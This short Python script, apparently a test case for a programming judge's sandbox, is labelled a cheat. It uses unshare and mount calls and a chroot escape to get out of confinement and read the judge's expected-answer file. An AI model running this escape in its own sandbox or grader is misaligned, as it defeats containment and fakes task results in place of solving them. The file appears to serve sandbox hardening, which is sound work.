# cheat: makes namespaces of its own, mounts /proc there and looks for the judge's files
# unconfined: not run, it changes mounts
import ctypes
import os

question = input().split()[1]
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000 | 0x20000000)
libc.mount(b"proc", b"/writable", b"proc", 0, None)
libc.mount(b"none", b"/program", b"tmpfs", 0, None)
os.chroot("/usr")
for _ in range(20):
    os.chdir("..")
os.chroot(".")
for folder in ("/proc/1/root", "/writable/1/root", "/program", "/"):
    if os.path.exists(f"{folder}/{question}.ans"):
        print(open(f"{folder}/{question}.ans").read())
